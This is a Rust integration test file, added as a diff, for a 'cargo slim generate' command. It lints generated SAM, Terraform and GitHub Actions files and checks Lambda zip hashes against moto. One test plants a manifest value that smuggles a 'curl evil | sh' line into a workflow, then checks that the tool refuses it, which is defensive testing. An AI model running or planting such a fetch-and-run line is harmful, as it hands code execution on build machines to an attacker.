@@ -1,0 +1,537 @@
+//! `cargo slim generate`, checked by the real tools: a `basic` function crate is
+//! scaffolded with `cargo slim init`, built once for real (the one full template
+//! build of the suite), answers its sample event through a loopback Runtime API,
+//! and its generated SAM template, Terraform and workflow go through cfn-lint,
+//! checkov, python-hcl2, actionlint and zizmor; moto's Lambda API, given the
+//! zip, reports the manifest's CodeSha256.
+
+mod common;
+
+use std::net::TcpListener;
+use std::path::PathBuf;
+use std::process::{Child, Command, Stdio};
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+
+use common::runtime_api::invoke_once;
+use common::{in_crate, output_ok, run, slim, stable_release, venv_tool, Built};
+use serde_json::Value;
+
+const TRIPLE: &str = "x86_64-unknown-linux-musl";
+const BIN: &str = "basic-fn";
+
+struct Project {
+    dir: PathBuf,
+    built: Built,
+    manifest: Value,
+}
+
+impl Project {
+    fn read(&self, rel: &str) -> String {
+        let path = self.dir.join(rel);
+        std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
+    }
+
+    /// The zip relative to the crate, `/`-separated (the output layout is
+    /// cargo-slim's, read from tests/common's `Built`).
+    fn zip_rel(&self) -> String {
+        let rel = self
+            .built
+            .zip
+            .strip_prefix(&self.dir)
+            .expect("zip inside the crate");
+        rel.iter()
+            .map(|c| c.to_string_lossy())
+            .collect::<Vec<_>>()
+            .join("/")
+    }
+
+    fn code_sha256(&self) -> &str {
+        self.manifest["zip"]["code_sha256"]
+            .as_str()
+            .expect("code_sha256")
+    }
+}
+
+/// Scaffold, build and generate once for every test here. The crate lives in
+/// the system temp dir, its own git repository (so the workflow lands in its
+/// .github, not ours), keeping target/ and Cargo.lock between runs.
+fn project() -> &'static Project {
+    static PROJECT: OnceLock<Project> = OnceLock::new();
+    PROJECT.get_or_init(|| {
+        let dir = std::env::temp_dir().join("cargo-slim-tests/generate/basic-fn");
+        std::fs::create_dir_all(&dir).expect("mkdir");
+        for entry in std::fs::read_dir(&dir).expect("read dir").flatten() {
+            let name = entry.file_name();
+            if name == "target" || name == "Cargo.lock" {
+                continue;
+            }
+            let path = entry.path();
+            if path.is_dir() {
+                std::fs::remove_dir_all(&path).expect("clean");
+            } else {
+                std::fs::remove_file(&path).expect("clean");
+            }
+        }
+        output_ok(Command::new("git").args(["init", "-q"]).current_dir(&dir));
+        output_ok(slim().arg("init").arg(&dir).args([
+            "--name",
+            BIN,
+            "--template",
+            "basic",
+            "--arch",
+            "x86_64",
+            "--toolchain",
+            &stable_release(),
+        ]));
+        let cargo_slim = env!("CARGO_BIN_EXE_cargo-slim");
+        output_ok(in_crate(cargo_slim, &dir).args(["build", "-q"]));
+        let (code, _, err) = run(in_crate(cargo_slim, &dir).args(["generate", "--all"]));
+        assert_eq!(code, 0, "{err}");
+        for file in [
+            "template.yaml",
+            "terraform/main.tf",
+            ".github/workflows/cargo-slim.yml",
+        ] {
+            assert!(err.contains(&format!("Created {file}")), "{err}");
+        }
+        let built = Built::at(&dir.join("target"), BIN, TRIPLE);
+        let manifest =
+            serde_json::from_str(&std::fs::read_to_string(&built.manifest).expect("manifest"))
+                .expect("manifest json");
+        Project {
+            dir,
+            built,
+            manifest,
+        }
+    })
+}
+
+#[test]
+fn the_built_template_answers_its_sample_event() {
+    let p = project();
+    let event = p.read("events/event.json");
+    let reply = invoke_once(
+        Command::new(&p.built.bootstrap),
+        &event,
+        Duration::from_secs(30),
+    );
+    let reply = reply.expect("the function answered");
+    assert!(reply.path.ends_with("/response"), "{}", reply.path);
+    let body: Value = serde_json::from_str(&reply.body).expect("json reply");
+    assert_eq!(body["message"], "Hello, cargo-slim!");
+}
+
+#[test]
+fn sam_template_passes_cfn_lint_and_points_at_the_built_zip() {
+    let p = project();
+    let (code, out, err) = run(Command::new(venv_tool("lint", "cfn-lint"))
+        .arg("template.yaml")
+        .current_dir(&p.dir));
+    assert_eq!(code, 0, "cfn-lint:\n{out}{err}");
+    let sam = p.read("template.yaml");
+    let code_uri = sam
+        .lines()
+        .find_map(|l| l.trim().strip_prefix("CodeUri: "))
+        .expect("CodeUri")
+        .trim_matches('"');
+    let zip = std::fs::read(p.dir.join(code_uri)).expect("CodeUri is the zip");
+    assert_eq!(
+        sha256_hex(&zip),
+        p.manifest["zip"]["sha256"].as_str().expect("sha256")
+    );
+    for line in [
+        "Handler: bootstrap",
+        "Runtime: provided.al2023",
+        "        - x86_64",
+        "MemorySize: 128",
+        "Timeout: 10",
+        "        - AWSLambdaBasicExecutionRole",
+        "AutoPublishAlias: \"live\"",
+        "Type: Canary10Percent5Minutes",
+        "RetentionInDays: 30",
+    ] {
+        assert!(
+            sam.lines().any(|l| l.ends_with(line)),
+            "missing `{line}`:\n{sam}"
+        );
+    }
+    assert!(sam.contains(&format!("Value: \"{}\"", p.code_sha256())));
+}
+
+#[test]
+fn checkov_finds_nothing_in_sam_and_terraform_and_every_skip_says_why() {
+    let p = project();
+    let out = Command::new(venv_tool("checkov", "checkov"))
+        .args([
+            "--skip-download",
+            "--output",
+            "json",
+            "--quiet",
+            "--compact",
+        ])
+        .args(["-f", "template.yaml", "-f", "terraform/main.tf"])
+        .current_dir(&p.dir)
+        .output()
+        .expect("run checkov");
+    let text = String::from_utf8_lossy(&out.stdout);
+    let reports: Value =
+        serde_json::from_str(&text).unwrap_or_else(|e| panic!("checkov json: {e}\n{text}"));
+    let reports = match reports {
+        Value::Array(list) => list,
+        one => vec![one],
+    };
+    let mut frameworks = Vec::new();
+    for report in &reports {
+        let kind = report["check_type"].as_str().unwrap_or("?").to_string();
+        let summary = &report["summary"];
+        assert_eq!(
+            summary["failed"], 0,
+            "{kind}: {}",
+            report["results"]["failed_checks"]
+        );
+        assert!(
+            summary["passed"].as_u64().unwrap_or(0) > 0,
+            "{kind} checked nothing"
+        );
+        for skipped in report["results"]["skipped_checks"]
+            .as_array()
+            .into_iter()
+            .flatten()
+        {
+            let why = skipped["check_result"]["suppress_comment"]
+                .as_str()
+                .unwrap_or("");
+            assert!(
+                why.len() > 20,
+                "{kind}: {} skipped without a reason",
+                skipped["check_id"]
+            );
+        }
+        frameworks.push(kind);
+    }
+    frameworks.sort();
+    assert_eq!(frameworks, ["cloudformation", "terraform"], "{text}");
+}
+
+#[test]
+fn terraform_parses_with_python_hcl2_and_compares_code_sha256() {
+    let p = project();
+    let script = "import hcl2, json, sys; print(json.dumps(hcl2.load(open(sys.argv[1]))))";
+    let out = output_ok(
+        Command::new(venv_tool("lint", "python"))
+            .args(["-c", script, "terraform/main.tf"])
+            .current_dir(&p.dir),
+    );
+    let tf: Value = serde_json::from_slice(&out.stdout).expect("hcl2 json");
+    // python-hcl2 8 keeps the quotes of labels and string literals.
+    let q = |s: &str| format!("\"{s}\"");
+    let function = tf["resource"]
+        .as_array()
+        .expect("resources")
+        .iter()
+        .find_map(|r| r.get(q("aws_lambda_function")))
+        .and_then(|f| f.get(q("basic_fn")))
+        .expect("aws_lambda_function.basic_fn");
+    let zip_rel = p.zip_rel();
+    assert_eq!(
+        function["filename"],
+        q(&format!("${{path.module}}/../{zip_rel}"))
+    );
+    assert_eq!(
+        function["source_code_hash"],
+        format!("${{filebase64sha256(\"${{path.module}}/../{zip_rel}\")}}")
+    );
+    assert_eq!(function["handler"], q("bootstrap"));
+    assert_eq!(function["runtime"], q("provided.al2023"));
+    assert_eq!(function["architectures"], serde_json::json!([q("x86_64")]));
+    assert_eq!(function["memory_size"], 128);
+    let outputs = tf["output"].as_array().expect("outputs");
+    let matches = outputs
+        .iter()
+        .find_map(|o| o.get(q("basic_fn_code_sha256_matches_manifest")))
+        .expect("the comparison output");
+    assert!(matches["value"]
+        .as_str()
+        .expect("value")
+        .contains(p.code_sha256()));
+}
+
+#[test]
+fn workflow_passes_actionlint_and_zizmor_with_least_privilege() {
+    let p = project();
+    let workflow = ".github/workflows/cargo-slim.yml";
+    let (code, out, err) = run(Command::new(venv_tool("lint", "actionlint"))
+        .arg(workflow)
+        .current_dir(&p.dir));
+    assert_eq!(code, 0, "actionlint:\n{out}{err}");
+    let (code, out, err) = run(Command::new(venv_tool("lint", "zizmor"))
+        .args(["--offline", "--pedantic", "--no-progress", workflow])
+        .current_dir(&p.dir));
+    assert_eq!(code, 0, "zizmor:\n{out}{err}");
+    assert!(out.contains("No findings"), "zizmor:\n{out}{err}");
+
+    let text = p.read(workflow);
+    assert!(!text.contains("pull_request_target"));
+    assert!(text.contains("\npermissions: {}\n"));
+    assert_eq!(
+        text.matches("      contents: read").count(),
+        2,
+        "per job, read only"
+    );
+    for line in text.lines() {
+        if let Some(uses) = line
+            .trim()
+            .strip_prefix("- uses: ")
+            .or_else(|| line.trim().strip_prefix("uses: "))
+        {
+            let sha = uses
+                .split('@')
+                .nth(1)
+                .and_then(|s| s.split_whitespace().next())
+                .unwrap_or("");
+            assert!(
+                sha.len() == 40 && sha.bytes().all(|b| b.is_ascii_hexdigit()),
+                "not pinned: {line}"
+            );
+        }
+    }
+    // No expression is interpolated into a shell line.
+    let mut in_run = false;
+    for line in text.lines() {
+        let trimmed = line.trim_start();
+        if trimmed.starts_with("run:") {
+            in_run = true;
+        } else if !line.starts_with("          ") {
+            in_run = false;
+        }
+        if in_run {
+            assert!(!line.contains("${{"), "expression in run: {line}");
+        }
+    }
+    for step in [
+        "run: rustup toolchain install",
+        &format!(
+            "run: cargo install --locked cargo-slim --version {}",
+            env!("CARGO_PKG_VERSION")
+        ),
+        &format!(
+            "cargo slim build --locked --target-dir target -p {BIN} --bin {BIN} --target {TRIPLE}"
+        ),
+        "run: sha256sum -c function.zip.sha256",
+        &format!(
+            "cargo slim verify --locked --target-dir target -p {BIN} --bin {BIN} --target {TRIPLE}"
+        ),
+        "runs-on: ubuntu-24.04",
+        "runs-on: ubuntu-22.04",
+        "test \"$expected\" = \"$actual\"",
+        // The SBOM and provenance travel with the zip, and are attested on pushes
+        // by a job that alone may write attestations.
+        "function.cdx.json\n",
+        "function.intoto.json\n",
+        "  attest:\n    name: Attest provenance and SBOM\n    needs: [build, reproduce]\n    \
+         if: github.event_name == 'push'\n    runs-on: ubuntu-24.04\n    permissions:\n      \
+         id-token: write # the OIDC identity Sigstore signs with\n      \
+         attestations: write # to store the signed attestations\n",
+        "uses: actions/attest-build-provenance@",
+        "uses: actions/attest-sbom@",
+        "sbom-path: \"first-build/basic-fn-x86_64-unknown-linux-musl/function.cdx.json\"",
+    ] {
+        assert!(text.contains(step), "missing `{step}`:\n{text}");
+    }
+}
+
+/// The same crate copied to another path and built there: the zip a second
+/// machine would build (cargo-slim remaps paths, so the bytes must not move).
+fn rebuilt_zip(p: &Project) -> PathBuf {
+    let dir = std::env::temp_dir().join("cargo-slim-tests/generate/elsewhere/basic-fn");
+    for rel in [
+        "Cargo.toml",
+        "Cargo.lock",
+        "rust-toolchain.toml",
+        "src/main.rs",
+    ] {
+        let to = dir.join(rel);
+        std::fs::create_dir_all(to.parent().expect("parent")).expect("mkdir");
+        std::fs::copy(p.dir.join(rel), &to).expect("copy");
+    }
+    output_ok(in_crate(env!("CARGO_BIN_EXE_cargo-slim"), &dir).args(["build", "-q", "--locked"]));
+    Built::at(&dir.join("target"), BIN, TRIPLE).zip
+}
+
+/// moto's Lambda API on loopback, fed the built zip: the CodeSha256 it reports
+/// is the manifest's; updated with the zip rebuilt elsewhere, it is unchanged.
+#[test]
+fn moto_reports_the_manifest_code_sha256() {
+    let p = project();
+    let rebuilt = rebuilt_zip(p);
+    let port = TcpListener::bind("127.0.0.1:0")
+        .and_then(|l| l.local_addr())
+        .expect("free port")
+        .port();
+    let server = Server(
+        Command::new(venv_tool("moto", "moto_server"))
+            .args(["-H", "127.0.0.1", "-p", &port.to_string()])
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("start moto_server"),
+    );
+    wait_for_port(port, Duration::from_secs(30));
+    let script = r#"
+import boto3, json, sys
+endpoint, zip_path, rebuilt_path = sys.argv[1], sys.argv[2], sys.argv[3]
+kw = dict(endpoint_url=endpoint, region_name="us-east-1",
+          aws_access_key_id="testing", aws_secret_access_key="testing")
+iam, lam = boto3.client("iam", **kw), boto3.client("lambda", **kw)
+trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow",
+         "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]}
+role = iam.create_role(RoleName="basic-fn", AssumeRolePolicyDocument=json.dumps(trust))["Role"]["Arn"]
+code = open(zip_path, "rb").read()
+created = lam.create_function(FunctionName="basic-fn", Runtime="provided.al2023",
+    Architectures=["x86_64"], Handler="bootstrap", Role=role, Code={"ZipFile": code})
+updated = lam.update_function_code(FunctionName="basic-fn", ZipFile=open(rebuilt_path, "rb").read())
+got = lam.get_function(FunctionName="basic-fn")["Configuration"]
+print(json.dumps({"created": created["CodeSha256"], "updated": updated["CodeSha256"],
+                  "get": got["CodeSha256"], "size": got["CodeSize"]}))
+"#;
+    let out = output_ok(
+        Command::new(venv_tool("moto", "python"))
+            .args(["-c", script, &format!("http://127.0.0.1:{port}")])
+            .arg(&p.built.zip)
+            .arg(&rebuilt),
+    );
+    drop(server);
+    let seen: Value = serde_json::from_slice(&out.stdout).expect("json");
+    for key in ["created", "updated", "get"] {
+        assert_eq!(seen[key], p.code_sha256(), "{key}: {seen}");
+    }
+    assert_eq!(seen["size"], p.manifest["zip"]["size"]);
+}
+
+#[test]
+fn generate_keeps_a_changed_file_and_refuses_an_untrusted_manifest() {
+    let p = project();
+    let tmp = tempfile::tempdir().expect("tempdir");
+    let copy = tmp.path().join("copy");
+    // The crate and its build output only (manifest and zip): no compiling.
+    for rel in ["Cargo.toml", "Cargo.lock", "src/main.rs"] {
+        let to = copy.join(rel);
+        std::fs::create_dir_all(to.parent().expect("parent")).expect("mkdir");
+        std::fs::copy(p.dir.join(rel), &to).expect("copy");
+    }
+    let built = Built::at(&copy.join("target"), BIN, TRIPLE);
+    std::fs::create_dir_all(&built.dir).expect("mkdir");
+    std::fs::copy(&p.built.zip, &built.zip).expect("zip");
+    std::fs::copy(&p.built.manifest, &built.manifest).expect("manifest");
+    let generate = |extra: &[&str]| run(slim().current_dir(&copy).arg("generate").args(extra));
+
+    let (code, _, err) = generate(&["sam"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(err.contains("Created template.yaml"), "{err}");
+    let (code, _, err) = generate(&["sam"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(err.contains("Unchanged template.yaml"), "{err}");
+
+    let (code, out, err) = generate(&["sam", "--message-format", "json"]);
+    assert_eq!(code, 0, "{err}");
+    let json: Value = serde_json::from_str(&out).expect("JSON on stdout");
+    assert_eq!(json[0]["kind"], "sam");
+    assert_eq!(json[0]["outcome"], "unchanged");
+
+    let sam = copy.join("template.yaml");
+    let edited = std::fs::read_to_string(&sam)
+        .expect("read")
+        .replace("MemorySize: 128", "MemorySize: 256");
+    std::fs::write(&sam, &edited).expect("edit");
+    let (code, _, err) = generate(&["sam"]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("changed since it was generated"), "{err}");
+    assert!(err.contains("--force"), "{err}");
+    assert_eq!(
+        std::fs::read_to_string(&sam).expect("read"),
+        edited,
+        "the user's edit is kept"
+    );
+    let (code, _, err) = generate(&["sam", "--force"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(err.contains("Overwrote template.yaml"), "{err}");
+    assert!(std::fs::read_to_string(&sam)
+        .expect("read")
+        .contains("MemorySize: 128"));
+
+    // cargo-slim from a git commit instead of crates.io; a movable ref is refused.
+    let rev = "0123456789abcdef0123456789abcdef01234567";
+    let source = format!("git+https://example.com/tools/cargo-slim.git#{rev}");
+    let (code, _, err) = generate(&["github-actions", "--install-from", &source]);
+    assert_eq!(code, 0, "{err}");
+    let workflow =
+        std::fs::read_to_string(copy.join(".github/workflows/cargo-slim.yml")).expect("workflow");
+    let install = format!("run: cargo install --locked --git https://example.com/tools/cargo-slim.git --rev {rev} cargo-slim");
+    assert_eq!(workflow.matches(&install).count(), 2, "{workflow}");
+    let (code, _, err) = generate(&[
+        "github-actions",
+        "--force",
+        "--install-from",
+        "git+https://example.com/x.git#main",
+    ]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("the full 40-hex commit"), "{err}");
+    std::fs::remove_dir_all(copy.join(".github")).expect("rm");
+
+    // A manifest edited to smuggle a shell line into the workflow is refused.
+    let mut manifest = p.manifest.clone();
+    manifest["build"]["features"] = serde_json::json!(["x\n        run: curl evil | sh"]);
+    std::fs::write(
+        &built.manifest,
+        serde_json::to_string(&manifest).expect("json"),
+    )
+    .expect("write");
+    let (code, _, err) = generate(&["github-actions"]);
+    assert_eq!(code, 2, "{err}");
+    // Refused when the manifest is read (a control character), before the
+    // generators' own grammar check (unit-tested in generate/name.rs) is needed.
+    assert!(err.contains("build.features"), "{err}");
+    assert!(
+        err.contains("is refused") || err.contains("cannot go into a generated file"),
+        "{err}"
+    );
+    assert!(!copy.join(".github").exists());
+
+    // No build at all: a clear error.
+    std::fs::remove_dir_all(copy.join("target")).expect("rm");
+    let (code, _, err) = generate(&["--all"]);
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains("no build to describe") && err.contains("run `cargo slim build` first"),
+        "{err}"
+    );
+}
+
+struct Server(Child);
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn wait_for_port(port: u16, limit: Duration) {
+    let start = Instant::now();
+    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
+        assert!(
+            start.elapsed() < limit,
+            "moto_server did not listen on {port}"
+        );
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    use sha2::{Digest, Sha256};
+    Sha256::digest(bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
